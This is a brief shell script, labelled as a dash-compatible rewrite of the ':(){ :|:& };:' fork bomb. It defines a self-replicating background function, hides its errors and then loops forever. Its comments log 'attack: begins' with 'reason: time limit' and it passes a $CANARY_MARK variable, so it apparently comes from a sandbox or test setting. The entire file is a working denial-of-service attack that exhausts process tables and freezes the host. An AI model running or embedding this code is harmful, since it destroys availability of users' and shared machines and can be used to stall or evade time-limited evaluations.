# :(){ :|:& };: in a form that even dash takes.
# log: attack: begins
# reason: time limit
bomb() { bomb "$CANARY_MARK" | bomb "$CANARY_MARK" & }
bomb 2>/dev/null
while :; do sleep 1 2>/dev/null; done
